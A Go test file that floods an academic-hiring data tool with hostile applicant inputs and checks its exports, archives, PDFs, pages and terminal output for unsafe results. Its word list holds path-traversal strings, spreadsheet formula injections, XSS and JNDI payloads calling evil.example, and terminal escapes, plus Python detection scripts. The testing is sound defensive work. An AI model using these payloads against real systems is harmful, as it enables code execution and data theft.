//go:build unix

package torture_test

import (
	"archive/zip"
	"encoding/json"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/ejmx/ejmx/ejm"
	"github.com/ejmx/ejmx/internal/outside"
	"github.com/ejmx/ejmx/internal/tried"
	"github.com/ejmx/ejmx/mirror"
	"github.com/ejmx/ejmx/replay"
	"github.com/ejmx/ejmx/season"
)

// hostileWords are what an applicant may call herself, a letter writer his university, an applicant her paper.
var hostileWords = []string{
	"../../../../etc/cron.d/ejmx", `..\..\..\Windows\win.ini`, "/etc/passwd", "C:\\evil.exe", "~/.ssh/authorized_keys", "CON", "nul.pdf", "a\x00b",
	"=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "\t=1+1", "\r=1+1",
	"<script>fetch('https://evil.example/')</script>", "\"><img src=x onerror=alert(1)>", "</script><svg onload=alert(1)>", "javascript:alert(1)", "{{7*7}}${7*7}",
	"\x1b[2J\x1b]0;owned\x07", "\x1b]8;;http://evil.example\x1b\\x", "\u009b31m", "a\rb\bc", "\u202eFDP.exe\u202c", "\u2066x\u2069\u200f", "\ufeff\u200b\u2028\u2029",
	"Ann", "ann", "ANN", "Ａnn", "e\u0301cole", "\u00e9cole", "K\u212aelvin", strings.Repeat("a", 1<<20), strings.Repeat("\U0001F469\u200d", 3000), "%00%2e%2e%2f", "${jndi:ldap://evil.example/}",
}

// hostile makes a mirror of what a season's people would be if all of them meant harm: every text of every record that is
// theirs is one of the words.
func hostile(t *testing.T) *mirror.Mirror {
	t.Helper()
	from, err := mirror.Create(filepath.Join(t.TempDir(), "from"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { from.Close() })
	if err := season.Write(from, season.Options{Applications: len(hostileWords)/2 + 1, Postings: 1, DocumentBytes: 1500}); err != nil {
		t.Fatal(err)
	}
	to, err := mirror.Create(filepath.Join(t.TempDir(), "to"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { to.Close() })
	latest, err := from.Latest()
	if err != nil {
		t.Fatal(err)
	}
	out, err := to.NewSnapshot(mirror.SnapshotInfo{Taken: latest.Taken, API: latest.API})
	if err != nil {
		t.Fatal(err)
	}
	words := 0
	for _, method := range mirror.Methods {
		for record, err := range latest.Records(method) {
			if err != nil {
				t.Fatal(err)
			}
			if method != mirror.Documents {
				record = poisoned(t, record, &words)
			}
			if err := out.Add(method, record); err != nil {
				t.Fatal(err)
			}
		}
	}
	copyDocuments(t, from, to)
	for id, state := range latest.Postings {
		out.SetPosting(id, state)
	}
	if _, _, err := out.Commit(); err != nil {
		t.Fatal(err)
	}
	return to
}

// theirs are the keys of texts that people outside the department write.
var theirs = regexp.MustCompile(`"(fname|mname|lname|degreeinst|curinst|curpos|email|phone|url|description|name|institution|department|response|response_text|filename|adtitle|question|primary_field|notes|country|city|path)":"(?:[^"\\]|\\.)*"`)

// poisoned puts hostile words into a record, another one each time.
func poisoned(t *testing.T, record json.RawMessage, next *int) json.RawMessage {
	t.Helper()
	changed := theirs.ReplaceAllFunc(record, func(match []byte) []byte {
		key, _, _ := strings.Cut(string(match), ":")
		word, err := json.Marshal(hostileWords[*next%len(hostileWords)])
		if err != nil {
			t.Fatal(err)
		}
		*next++
		if len(word) > 1<<19 && *next > 3*len(hostileWords) {
			word = word[:1000]
			word[999] = '"'
		}
		return append([]byte(key+":"), word...)
	})
	if !json.Valid(changed) {
		t.Fatalf("no JSON: %.300s", changed)
	}
	return changed
}

func copyDocuments(t *testing.T, from, to *mirror.Mirror) {
	t.Helper()
	latest, err := from.Latest()
	if err != nil {
		t.Fatal(err)
	}
	for v, err := range mirror.Records[ejm.Application](latest, mirror.Applications) {
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range v.Files {
			copyDocument(t, from, to, ejm.KindFile, f.BlobID)
		}
		for _, r := range v.Recommendations {
			copyDocument(t, from, to, ejm.KindLetter, r.BlobID)
		}
	}
}

func copyDocument(t *testing.T, from, to *mirror.Mirror, kind ejm.Kind, blobid ejm.ID) {
	t.Helper()
	if blobid == 0 || to.Has(kind, blobid) {
		return
	}
	blob, err := from.Document(kind, blobid)
	if err != nil {
		t.Fatal(err)
	}
	in, err := from.OpenDocument(kind, blobid)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	out, err := to.NewDocument(kind)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := io.Copy(out, in); err != nil {
		t.Fatal(err)
	}
	words := int(blobid)
	if _, err := out.Commit(blobid, poisoned(t, blob.Record, &words)); err != nil {
		t.Fatal(err)
	}
}

// TestHostileSeason takes a season of nothing but hostile words through everything, and has other people's programs look at
// what came of it.
func TestHostileSeason(t *testing.T) {
	t.Parallel()
	w := worldOf(t, hostile(t), replay.Options{})
	outsideBefore := sums(t, filepath.Dir(w.home))
	ended := w.run("export", "--all", "--csv", "--sqlite", "--verbose")
	if ended.Code != 0 && ended.Code != 3 {
		t.Fatalf("exit %d\n%.3000s", ended.Code, ended.Stderr)
	}
	w.must("archive", "--all", "--incomplete")
	w.run("postings")
	checkTerminal(t, ended.Stdout+ended.Stderr+w.run("postings").Stdout+w.run("missing", "--all").Stdout+w.run("status").Stdout)
	for name, sum := range sums(t, filepath.Dir(w.home)) {
		if !strings.HasPrefix(name, filepath.Base(w.home)+"/season/") && outsideBefore[name] != sum {
			t.Errorf("%s was written, outside the season", name)
		}
	}
	w.checkNames()
	w.checkWorkbooks()
	w.checkPackets()
	w.checkReports()
	w.tidy()
	tried.Row(t, "Attacks: words", "names, answers, titles, addresses, file names as paths, formulas, HTML, terminal escapes, bidi overrides, NULs, twins in case and Unicode, 1 MB",
		"a season of nothing else, served, fetched, exported, archived; looked at by Python, qpdf, pdftotext, unzip", len(hostileWords),
		"nothing outside the season; every name plain; no formula, no link but to files beside; packets sound; the terminal shows controls as signs")
}

// checkTerminal checks that nothing printed can move a cursor or turn a line around.
func checkTerminal(t *testing.T, text string) {
	t.Helper()
	for _, r := range text {
		if r != '\n' && r != '\u200c' && r != '\u200d' && !unicode.IsGraphic(r) {
			t.Errorf("it prints %U: %q", r, around(text, r))
			return
		}
	}
}

func around(text string, r rune) string {
	i := strings.IndexRune(text, r)
	return text[max(0, i-60):min(len(text), i+60)]
}

var unsafeName = regexp.MustCompile(`[<>:"/\\|?*#%&{}~\x00-\x1f\x7f\x{80}-\x{9f}\x{200b}\x{200e}\x{200f}\x{2028}-\x{202e}\x{2060}-\x{206f}\x{feff}]|^[ .]|[ .]$`)

// checkNames checks the names of all files, in the folders and in the zips.
func (w *world) checkNames() {
	w.t.Helper()
	files, seen := 0, map[string]string{}
	check := func(name string) {
		files++
		for part := range strings.SplitSeq(name, "/") {
			if unsafeName.MatchString(part) && !strings.HasPrefix(part, ".ejmx") || len(part) > 200 {
				w.t.Errorf("a name that is not safe everywhere: %q", name)
			}
		}
		if other, twice := seen[strings.ToLower(name)]; twice && other != name {
			w.t.Errorf("two names that some systems take for one: %q and %q", other, name)
		}
		seen[strings.ToLower(name)] = name
	}
	for name := range w.visible("postings") {
		check(name)
	}
	zips, err := filepath.Glob(filepath.Join(w.season, "*", "*.zip"))
	if err != nil || len(zips) < 2 {
		w.t.Fatal(zips, err)
	}
	for _, name := range zips {
		z, err := zip.OpenReader(name)
		if err != nil {
			w.t.Fatal(err)
		}
		seen = map[string]string{}
		for _, f := range z.File {
			check(f.Name)
		}
		z.Close()
		if out, err := exec.Command(outside.Tool(w.t, "unzip"), "-tqq", name).CombinedOutput(); err != nil {
			w.t.Errorf("unzip: %v: %.300s", err, out)
		}
	}
	if files == 0 {
		w.t.Error("no file was looked at")
	}
}

// pythonOnWorkbook says what in a workbook's XML would act: formulas with people's words, links that lead elsewhere.
const pythonOnWorkbook = `
import re, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
for name in z.namelist():
    text = z.read(name).decode("utf-8")
    for f in re.findall(r"<f[^>]*>(.*?)</f>", text, re.S):
        if re.search(r"cmd|evil|calc'|HYPERLINK\(&quot;http", f): print("formula in", name, f[:200])
    if name.endswith(".rels"):
        for target in re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', text) + re.findall(r'TargetMode="External"[^>]*Target="([^"]*)"', text):
            if re.match(r"(?i)(javascript|file|data|vbscript|ldap|\\\\|//|\.\./|~|/)", target): print("link in", name, target[:200])
`

// pythonOnTable says which cells of a CSV a spreadsheet would run.
const pythonOnTable = `
import csv, re, sys
csv.field_size_limit(1 << 30)
for row in csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")):
    for cell in row:
        if re.match(r"[ \t\r\n]*[=+@-]", cell) and not re.fullmatch(r"-?[0-9.]+", cell): print("runs in", sys.argv[1], cell[:100])
`

func (w *world) checkWorkbooks() {
	w.t.Helper()
	books, err := filepath.Glob(filepath.Join(w.season, "postings", "*", "*.xlsx"))
	if err != nil || len(books) == 0 {
		w.t.Fatal("no workbook", err)
	}
	for _, book := range books {
		out, err := exec.Command(outside.Tool(w.t, "python3"), "-c", pythonOnWorkbook, book).CombinedOutput()
		if err != nil || len(out) > 0 {
			w.t.Errorf("%v: %.1000s", err, out)
		}
	}
	tables, err := filepath.Glob(filepath.Join(w.season, "postings", "*", "*.csv"))
	if more, _ := filepath.Glob(filepath.Join(w.season, "postings", "*", "*", "*.csv")); err == nil {
		tables = append(tables, more...)
	}
	if len(tables) == 0 {
		w.t.Error("no CSV was looked at")
	}
	for _, table := range tables {
		out, err := exec.Command(outside.Tool(w.t, "python3"), "-c", pythonOnTable, table).CombinedOutput()
		if err != nil || len(out) > 0 {
			w.t.Errorf("%v: %.1000s", err, out)
		}
	}
}

func (w *world) checkPackets() {
	w.t.Helper()
	packets, err := filepath.Glob(filepath.Join(w.season, "postings", "*", "packets", "*.pdf"))
	if err != nil || len(packets) == 0 {
		w.t.Fatal("no packet", err)
	}
	for i, packet := range packets {
		if !tried.Fully() && i%5 > 0 {
			continue
		}
		if out, err := exec.Command(outside.Tool(w.t, "qpdf"), "--check", packet).CombinedOutput(); err != nil {
			w.t.Errorf("qpdf: %s: %v: %.500s", packet, err, out)
		}
		text, err := exec.Command(outside.Tool(w.t, "pdftotext"), packet, "-").Output()
		if err != nil || strings.ContainsAny(string(text), "\x00\x07\x08\x1b") {
			w.t.Errorf("pdftotext: %s: %v, or it holds control characters", packet, err)
		}
	}
}

// checkReports has Python read every JSON file, and looks into pages for what would run.
func (w *world) checkReports() {
	w.t.Helper()
	pages := 0
	err := filepath.WalkDir(filepath.Join(w.season, "postings"), func(name string, entry fs.DirEntry, err error) error {
		if err != nil || entry.IsDir() {
			return err
		}
		switch filepath.Ext(name) {
		case ".json":
			if out, err := exec.Command(outside.Tool(w.t, "python3"), "-m", "json.tool", name, os.DevNull).CombinedOutput(); err != nil {
				w.t.Errorf("%s: %v: %.300s", name, err, out)
			}
		case ".html":
			pages++
			data, err := os.ReadFile(name)
			if err != nil {
				return err
			}
			for _, acts := range []string{"<script>fetch", "<img src=x", "<svg onload", `href="javascript:`} {
				if strings.Contains(string(data), acts) {
					w.t.Errorf("%s holds %s", name, acts)
				}
			}
		}
		return nil
	})
	if err != nil || pages == 0 {
		w.t.Errorf("%d pages, %v", pages, err)
	}
}
